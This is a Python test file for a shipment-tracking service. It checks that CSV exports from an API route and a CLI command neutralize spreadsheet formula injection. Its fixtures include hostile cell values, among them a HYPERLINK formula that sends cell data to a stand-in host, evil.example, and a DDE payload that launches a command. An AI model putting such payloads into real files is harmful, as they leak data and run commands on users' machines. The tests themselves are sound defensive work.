"""
Safe CSV (issue 8, item 7): every CSV tracksvc writes (the stalled-labels route and
``tracksvc stalled --csv``) neutralizes cells a spreadsheet would run as formulas, the way OWASP
describes; the values are stored and found as they were sent.
"""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any
from urllib.parse import quote

import pytest
import redis
from yarl import URL

from tests.conftest import AGENT, INGEST, WAREHOUSE
from tests.contract import assert_matches
from tests.tracksvc.registry_helpers import hours_ago, shipment, stalled
from tracksvc.api.routes.track import STALLED_CSV_COLUMNS
from tracksvc.cli.main import main
from tracksvc.domain.safe_csv import FORMULA_TRIGGERS, neutralize, write_csv

#: (shipment id, order number, origin): legal identifiers a spreadsheet would run as formulas.
HOSTILE = [
    ('=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"),
    ("-1+2", "=1+1", "-DAL1"),
    ("@shp-9", "-W-9", "+DAL9"),
]


async def _register_hostile(client: Any) -> None:
    for sid, order, origin in HOSTILE:
        body = shipment(sid, "ups-label-5d", order_number=order, origin=origin,
                        label_created_at=hours_ago(100))
        del body["shipment_id"]  # the path's
        response = await client.put(
            URL("/v1/shipments/" + quote(sid, safe=""), encoded=True), json=body, headers=INGEST
        )
        assert response.status == 201, await response.json()


def _by_id(table: list[list[str]]) -> dict[str, list[str]]:
    header, *rows = table
    assert tuple(header) == STALLED_CSV_COLUMNS
    return {row[0]: row for row in rows}


async def test_the_stalled_csv_route_neutralizes_formula_cells(service: Any) -> None:
    """Accept: text/csv: ids, orders and origins starting = + - @ get a leading quote; every cell quoted."""
    await _register_hostile(service)
    response = await service.get("/v1/labels/stalled", headers={**WAREHOUSE, "Accept": "text/csv"})
    assert response.status == 200
    text = await response.text()
    assert_matches("/v1/labels/stalled", "get", 200, text, media="text/csv")
    rows = _by_id(list(csv.reader(io.StringIO(text))))
    assert set(rows) == {"'" + sid for sid, _, _ in HOSTILE}
    for sid, order, origin in HOSTILE:
        row = rows["'" + sid]
        assert (row[1], row[4]) == ("'" + order, "'" + origin)
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
    # Only CSV output is neutralized: JSON shows the stored text, and GET /v1/track finds it as sent.
    _, page = await stalled(service)
    assert {label["shipment_id"] for label in page["labels"]} == {sid for sid, _, _ in HOSTILE}
    for sid, order, _ in HOSTILE:
        response = await service.get(URL("/v1/track/" + quote(sid, safe=""), encoded=True), headers=AGENT)
        body = await response.json()
        assert response.status == 200, body
        assert (body["order_number"], body["shipments"][0]["shipment_id"]) == (order, sid)


async def test_the_cli_stalled_csv_neutralizes_formula_cells(
    service: Any, cli_env: redis.Redis, capsys: pytest.CaptureFixture[str]
) -> None:
    """tracksvc stalled --csv writes the same neutralized cells as the route."""
    await _register_hostile(service)
    capsys.readouterr()
    code = await _run_cli("stalled", "--csv")
    out = capsys.readouterr().out
    assert code == 0
    rows = _by_id(list(csv.reader(io.StringIO(out))))
    for sid, order, origin in HOSTILE:
        row = rows["'" + sid]
        assert (row[1], row[4]) == ("'" + order, "'" + origin)


async def _run_cli(*args: str) -> int:
    return await asyncio.to_thread(main, list(args))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_each_dangerous_first_character_gets_a_quote(trigger: str) -> None:
    """=, +, -, @, tab and carriage return at the start: a leading single quote; in the middle: nothing."""
    value = f'{trigger}SUM(A1:A9),"x"'
    out = io.StringIO()
    write_csv(out, ["a", "b"], [{"a": value, "b": f"ok{value}"}])
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert header == ["a", "b"]
    assert row == ["'" + value, f"ok{value}"]
    assert out.getvalue().splitlines()[1].startswith("\"'")
    assert neutralize(None) == ""
    assert neutralize(12.5) == "12.5"
